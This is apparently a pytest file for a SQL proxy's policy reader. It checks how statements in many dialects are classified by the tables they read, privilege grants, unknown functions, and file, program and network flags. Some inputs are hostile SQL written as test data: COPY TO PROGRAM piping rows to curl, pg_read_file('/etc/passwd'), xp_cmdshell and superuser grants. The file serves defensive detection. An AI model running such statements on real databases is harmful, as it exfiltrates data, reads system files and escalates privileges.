"""What statements do, over the databases the reader knows.

A statement is written down as `shown` writes it: type, (object), tables, <tables read, rows=N,
[privileges to grantee], ?functions nobody knows, and the flags that are set.
"""

from __future__ import annotations

import pytest

from proxy.policy.sql.reader import read_sql
from proxy.policy.sql.statement import Statement

FLAGS = (
    "has_where",
    "has_limit",
    "drops",
    "to_program",
    "to_file",
    "from_file",
    "to_network",
    "nested",
)


def shown(statement: Statement) -> str:
    parts = [statement.type]
    if statement.object not in ("", "table"):
        parts.append(f"({statement.object})")
    if statement.tables:
        parts.append(",".join(statement.tables))
    if statement.reads:
        parts.append("<" + ",".join(statement.reads))
    if statement.rows >= 0:
        parts.append(f"rows={statement.rows}")
    if statement.privileges or statement.grantee:
        parts.append(f"[{'/'.join(statement.privileges)} to {statement.grantee}]")
    if statement.unknown_functions:
        parts.append("?" + ",".join(statement.unknown_functions))
    return " ".join([*parts, *(flag for flag in FLAGS if getattr(statement, flag))])


CASES = [
    ("postgres", "SELECT id, name FROM customers WHERE id = 7", "select <customers has_where"),
    ("postgres", "SELECT * FROM public.customers LIMIT 10", "select <customers rows=10 has_limit"),
    (
        "postgres",
        "SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer_id",
        "select <orders,customers",
    ),
    ("postgres", 'SELECT * FROM "Orders" WHERE "Id" = 1', "select <orders has_where"),
    ("postgres", "SELECT 1", "select"),
    ("postgres", "VALUES (1), (2)", "select"),
    ("postgres", "TABLE users", "select <users"),
    ("postgres", "(SELECT 1)", "select"),
    ("postgres", "SELECT a FROM t UNION ALL SELECT b FROM u", "select <t,u"),
    (
        "postgres",
        "WITH big AS (SELECT * FROM orders WHERE total > 100) SELECT * FROM big",
        "select <orders",
    ),
    (
        "postgres",
        "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
        "select <secrets",
    ),
    (
        "postgres",
        "SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) x JOIN s ON true",
        "select <s",
    ),
    (
        "postgres",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t) SELECT n FROM t",
        "select",
    ),
    (
        "postgres",
        "SELECT * FROM orders WHERE id IN (SELECT order_id FROM refunds)",
        "select <orders,refunds",
    ),
    ("postgres", "SELECT * FROM t FETCH FIRST 5 ROWS ONLY", "select <t rows=5 has_limit"),
    ("postgres", "SELECT * FROM t FOR UPDATE", "select <t"),
    (
        "postgres",
        "INSERT INTO customers (id, name) VALUES (1, 'a'), (2, 'b')",
        "insert customers rows=2",
    ),
    (
        "postgres",
        "INSERT INTO archive SELECT * FROM orders WHERE year < 2020",
        "insert archive <orders + select <orders has_where nested",
    ),
    (
        "postgres",
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1",
        "insert t rows=1 + update t has_where nested",
    ),
    ("postgres", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert t rows=1"),
    ("postgres", "UPDATE customers SET email = 'x' WHERE id = 7", "update customers has_where"),
    ("postgres", "UPDATE customers SET email = 'x'", "update customers"),
    (
        "postgres",
        "UPDATE o SET total = 0 FROM orders o2 WHERE o.id = o2.id",
        "update o <orders has_where + select <orders nested",
    ),
    ("postgres", "DELETE FROM orders WHERE id = 7", "delete orders has_where"),
    ("postgres", "DELETE FROM orders", "delete orders"),
    ("postgres", "DELETE FROM ONLY orders", "delete orders"),
    (
        "postgres",
        "DELETE FROM orders USING customers WHERE orders.customer_id = customers.id",
        "delete orders <customers has_where + select <customers nested",
    ),
    (
        "postgres",
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        "select + delete orders nested",
    ),
    (
        "postgres",
        "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM d",
        "insert archive + delete orders has_where nested",
    ),
    (
        "postgres",
        "SELECT * INTO copy_of FROM customers",
        "select <customers + create copy_of nested",
    ),
    ("postgres", "TRUNCATE orders, customers CASCADE", "truncate orders,customers drops"),
    ("postgres", "DROP TABLE IF EXISTS orders, customers CASCADE", "drop orders,customers drops"),
    ("postgres", "DROP SCHEMA sales CASCADE", "drop (schema) sales drops"),
    ("postgres", "DROP DATABASE shop", "drop (database) shop drops"),
    ("postgres", "DROP INDEX i", "drop (index) i drops"),
    ("postgres", "CREATE TABLE t (id int)", "create t"),
    (
        "postgres",
        "CREATE TABLE t AS SELECT * FROM customers",
        "create t <customers + select <customers nested",
    ),
    (
        "postgres",
        "CREATE OR REPLACE VIEW v AS SELECT * FROM customers",
        "create (view) v <customers drops + select <customers nested",
    ),
    ("postgres", "CREATE INDEX CONCURRENTLY i ON orders (id)", "create (index) orders"),
    (
        "postgres",
        "CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM t; SELECT 1 $$ LANGUAGE sql",
        "create (function) f",
    ),
    ("postgres", "CREATE EXTENSION dblink", "create (extension) dblink"),
    (
        "postgres",
        "CREATE USER bob WITH PASSWORD 'x' SUPERUSER",
        "create (user) bob [password/superuser to bob]",
    ),
    ("postgres", "ALTER TABLE orders DROP COLUMN total", "alter orders drops"),
    ("postgres", "ALTER TABLE orders ADD COLUMN note text", "alter orders"),
    ("postgres", "ALTER TABLE orders OWNER TO bob", "alter orders"),
    ("postgres", "ALTER ROLE bob SUPERUSER", "alter (role) bob [superuser to bob]"),
    ("postgres", "ALTER SYSTEM SET archive_command = 'x'", "set (system)"),
    (
        "postgres",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
        "grant (default privileges) [ to bob]",
    ),
    ("postgres", "GRANT SELECT, UPDATE ON orders TO bob", "grant orders [select/update to bob]"),
    (
        "postgres",
        "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO bob",
        "grant (schema) public [all privileges to bob]",
    ),
    ("postgres", "GRANT admin TO bob", "grant (role) [admin to bob]"),
    ("postgres", "REVOKE ALL ON orders FROM bob", "revoke orders [all to bob]"),
    ("postgres", "COPY customers TO STDOUT", "copy <customers"),
    ("postgres", "COPY customers TO '/tmp/x.csv' CSV", "copy <customers to_file"),
    (
        "postgres",
        "COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- example.org'",
        "copy <customers to_program",
    ),
    ("postgres", "COPY customers FROM '/tmp/x.csv'", "copy customers from_file"),
    (
        "postgres",
        "COPY customers FROM PROGRAM 'curl example.org'",
        "copy customers to_program from_file",
    ),
    ("postgres", "COPY (DELETE FROM orders RETURNING *) TO STDOUT", "opaque"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "select ?pg_read_file from_file"),
    ("postgres", "SELECT pg_catalog.lo_export(1, '/tmp/x')", "select ?lo_export to_file"),
    (
        "postgres",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "select ?dblink to_network + opaque",
    ),
    (
        "postgres",
        "SELECT query_to_xml('drop table x', true, true, '')",
        "select ?query_to_xml + opaque",
    ),
    ("postgres", "SELECT set_config('role', 'admin', false)", "select ?set_config"),
    ("postgres", "SELECT close_account(7)", "select ?close_account"),
    ("postgres", "SELECT app.close_account(7)", "select ?app.close_account"),
    ("postgres", "SELECT lower(name), count(*), now() FROM t GROUP BY 1", "select <t"),
    ("postgres", "CALL close_account(7)", "call (procedure) close_account ?close_account"),
    ("postgres", "DO $$ BEGIN DELETE FROM t; END $$", "opaque"),
    ("postgres", "EXECUTE stored(1)", "opaque"),
    ("postgres", "PREPARE p AS DELETE FROM orders", "delete orders"),
    ("postgres", "EXPLAIN DELETE FROM orders", "explain"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders", "explain + delete orders nested"),
    (
        "postgres",
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET a = 1 WHERE id = 1",
        "explain + update orders has_where nested",
    ),
    ("postgres", "SET ROLE admin", "set (role)"),
    ("postgres", "SET SESSION AUTHORIZATION admin", "set (session authorization)"),
    ("postgres", "SET search_path TO evil", "set (search_path)"),
    ("postgres", "RESET ALL", "set (all)"),
    (
        "postgres",
        "BEGIN; SAVEPOINT a; ROLLBACK TO a; COMMIT",
        "transaction + transaction + transaction + transaction",
    ),
    ("postgres", "SHOW server_version", "show (show)"),
    ("postgres", "VACUUM FULL orders", "maintenance (vacuum) orders"),
    ("postgres", "REFRESH MATERIALIZED VIEW v", "maintenance (refresh) v"),
    ("postgres", "LOCK TABLE orders", "maintenance (lock) orders"),
    ("postgres", "DECLARE c CURSOR FOR SELECT * FROM customers", "select <customers"),
    ("postgres", "FETCH ALL FROM c", "other (cursor)"),
    ("postgres", "NOTIFY channel, 'x'", "other (notify)"),
    ("postgres", "COMMENT ON TABLE t IS 'x'", "alter (comment) t"),
    (
        "postgres",
        "IMPORT FOREIGN SCHEMA a FROM SERVER b INTO c",
        "create (foreign schema) to_network",
    ),
    ("postgres", "LOAD '/tmp/x.so'", "call (library) to_program from_file"),
    (
        "postgres",
        "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)",
        "merge a <b has_where + select <b nested + delete a has_where nested",
    ),
    ("mysql", "SELECT * FROM `shop`.`orders` LIMIT 5", "select <shop.orders rows=5 has_limit"),
    (
        "mysql",
        "SELECT * INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ',' FROM customers",
        "select <customers to_file",
    ),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "select ?load_file from_file"),
    ("mysql", "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE orders", "copy orders from_file"),
    ("mysql", "DELETE a, b FROM a JOIN b ON a.id = b.id WHERE a.x = 1", "delete a,b has_where"),
    ("mysql", "UPDATE a JOIN b ON a.id = b.id SET a.x = 1, b.y = 2", "update a,b"),
    ("mysql", "UPDATE orders SET a = 1 LIMIT 3", "update orders rows=3 has_limit"),
    ("mysql", "REPLACE INTO t VALUES (1)", "merge t rows=1"),
    (
        "mysql",
        "INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = 2",
        "insert t rows=1 + update t has_where nested",
    ),
    ("mysql", "RENAME TABLE a TO b", "alter a"),
    ("mysql", "SHOW TABLES", "show"),
    ("mysql", "SHOW GRANTS FOR bob", "show"),
    ("mysql", "DESCRIBE orders", "show <orders"),
    ("mysql", "EXPLAIN ANALYZE DELETE FROM orders", "explain <orders + delete orders nested"),
    ("mysql", "CREATE USER 'bob'@'%' IDENTIFIED BY 'x'", "create (user) bob [identified to bob]"),
    (
        "mysql",
        "GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%' WITH GRANT OPTION",
        "grant [all privileges to bob]",
    ),
    ("mysql", "PREPARE p FROM 'drop table x'", "opaque"),
    ("mysql", "SET GLOBAL general_log = 1", "set (general_log)"),
    ("mysql", "KILL 3", "other (session)"),
    ("mysql", "FLUSH PRIVILEGES", "maintenance (flush) privileges"),
    ("mysql", "HANDLER t OPEN", "opaque"),
    ("sqlite", "SELECT * FROM main.users", "select <users"),
    ("sqlite", "ATTACH DATABASE '/tmp/x' AS y", "attach (database) to_file from_file"),
    ("sqlite", "PRAGMA table_info(users)", "show (table_info)"),
    ("sqlite", "PRAGMA foreign_keys = OFF", "set (foreign_keys)"),
    ("sqlite", "PRAGMA user_version", "show (user_version)"),
    ("sqlite", "INSERT OR REPLACE INTO t VALUES (1)", "merge t rows=1"),
    ("sqlite", "VACUUM INTO '/tmp/x'", "maintenance (vacuum) to_file"),
    ("sqlite", "SELECT load_extension('/tmp/x')", "select ?load_extension to_program"),
    ("sqlite", "SELECT writefile('/tmp/x', 'y')", "select ?writefile to_file"),
    ("sqlite", "EXPLAIN QUERY PLAN SELECT * FROM t", "explain <t"),
    ("tsql", "SELECT TOP 5 * FROM dbo.Orders", "select <orders rows=5 has_limit"),
    ("tsql", "SELECT [Id] FROM [dbo].[Orders] WHERE [Id] = 1", "select <orders has_where"),
    ("tsql", "EXEC xp_cmdshell 'dir'", "call (procedure) xp_cmdshell ?xp_cmdshell to_program"),
    (
        "tsql",
        "EXEC master..xp_cmdshell 'dir'",
        "call (procedure) master.xp_cmdshell ?xp_cmdshell to_program",
    ),
    ("tsql", "EXEC('drop table x')", "opaque"),
    ("tsql", "EXEC sp_executesql N'drop table x'", "opaque"),
    ("tsql", "EXEC close_account 7", "call (procedure) close_account ?close_account"),
    (
        "tsql",
        "SELECT * FROM OPENROWSET('a', 'b', 'select 1')",
        "select ?openrowset from_file to_network + opaque",
    ),
    (
        "tsql",
        "DELETE o FROM dbo.Orders AS o JOIN x ON x.id = o.id",
        "delete orders <x + select <x nested",
    ),
    ("tsql", "DELETE TOP (10) FROM Orders", "delete orders has_limit"),
    ("tsql", "UPDATE o SET a = 1 FROM dbo.Orders o WHERE o.id = 1", "update orders has_where"),
    (
        "tsql",
        "SELECT * INTO backup_orders FROM Orders",
        "select <orders + create backup_orders nested",
    ),
    ("tsql", "BACKUP DATABASE shop TO DISK = 'x'", "copy (database) shop to_file"),
    ("tsql", "BULK INSERT Orders FROM 'x'", "copy orders from_file"),
    ("tsql", "DENY SELECT ON Orders TO bob", "revoke orders [select to bob]"),
    ("tsql", "USE shop", "set (database)"),
    ("tsql", "IF 1 = 1 DROP TABLE x", "opaque"),
    (
        "tsql",
        "MERGE INTO a USING b ON a.id = b.id WHEN NOT MATCHED BY SOURCE THEN DELETE;",
        "merge a <b has_where + select <b nested + delete a nested",
    ),
    ("tsql", "CREATE LOGIN bob WITH PASSWORD = 'x'", "create (login) bob [login/password to bob]"),
    ("tsql", "DECLARE @x int = 1", "set (variable)"),
    (
        "bigquery",
        "SELECT * FROM `proj.data.orders` WHERE id = 1",
        "select <proj.data.orders has_where",
    ),
    (
        "bigquery",
        "EXPORT DATA OPTIONS(uri = 'gs://x/*') AS SELECT * FROM d.t",
        "copy <d.t to_file to_network",
    ),
    ("bigquery", "EXECUTE IMMEDIATE 'drop table x'", "opaque"),
    ("bigquery", "DELETE FROM d.t WHERE true", "delete d.t"),
    (
        "bigquery",
        "SELECT * FROM EXTERNAL_QUERY('c', 'select 1')",
        "select ?external_query to_network + opaque",
    ),
    ("bigquery", "TRUNCATE TABLE d.t", "truncate d.t drops"),
    ("snowflake", "COPY INTO 's3://x/y' FROM orders", "copy (stage) <orders to_file to_network"),
    ("snowflake", "COPY INTO @stage FROM (SELECT * FROM orders)", "copy (stage) <orders to_file"),
    ("snowflake", "COPY INTO orders FROM @stage/x", "copy orders from_file"),
    ("snowflake", "PUT file:///tmp/x @stage", "copy (stage) to_file from_file to_network"),
    ("snowflake", "GET @stage file:///tmp/", "copy (stage) to_file from_file to_network"),
    ("snowflake", "UNDROP TABLE t", "create t"),
    ("snowflake", "CREATE OR REPLACE TABLE t AS SELECT 1", "create t drops"),
    ("snowflake", "CREATE STAGE s URL = 's3://x'", "create (stage) s"),
    ("snowflake", "GRANT ROLE admin TO USER bob", "grant (role) [role admin to bob]"),
    ("snowflake", "USE ROLE accountadmin", "set (role)"),
    ("duckdb", "SELECT * FROM '/etc/passwd'", "select </etc/passwd from_file"),
    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "select ?read_csv from_file"),
    ("duckdb", "COPY t TO 's3://x/y'", "copy <t to_file to_network"),
    ("duckdb", "INSTALL httpfs", "call (library)"),
    (
        "redshift",
        "UNLOAD ('select * from t') TO 's3://x'",
        "copy (stage) to_file to_network + opaque",
    ),
    ("clickhouse", "SELECT * FROM url('http://x')", "select ?url to_network"),
    ("clickhouse", "ALTER TABLE t DELETE WHERE 1 = 1", "alter t drops + delete t nested"),
    (
        "hive",
        "INSERT OVERWRITE DIRECTORY '/x' SELECT * FROM t",
        "merge <t to_file + select <t nested",
    ),
    ("oracle", "BEGIN DELETE FROM t; END;", "opaque + transaction"),
    ("any", "SELECT * FROM orders WHERE id = 1", "select <orders has_where"),
    ("any", "DROP TABLE orders", "drop orders drops"),
    ("any", "SELECT * INTO OUTFILE '/x' FROM t", "select <t to_file"),
    ("any", "PRAGMA table_info(t)", "show (table_info) ?table_info + show (table_info)"),
    ("any", "SHOW TABLES", "show (show) + show"),
    ("any", "UPDATE t SET a = 'it''s' WHERE id = 3", "update t has_where"),
    (
        "any",
        "SELECT name FROM sqlite_master WHERE type = 'table'",
        "select <sqlite_master has_where",
    ),
]


@pytest.mark.parametrize(
    ("dialect", "sql", "said"), CASES, ids=[f"{d}-{s[:50]}" for d, s, _ in CASES]
)
def test_statement(dialect: str, sql: str, said: str) -> None:
    """What a statement does is told from its tree, not from the words in it."""
    assert " + ".join(map(shown, read_sql(sql, dialect))) == said
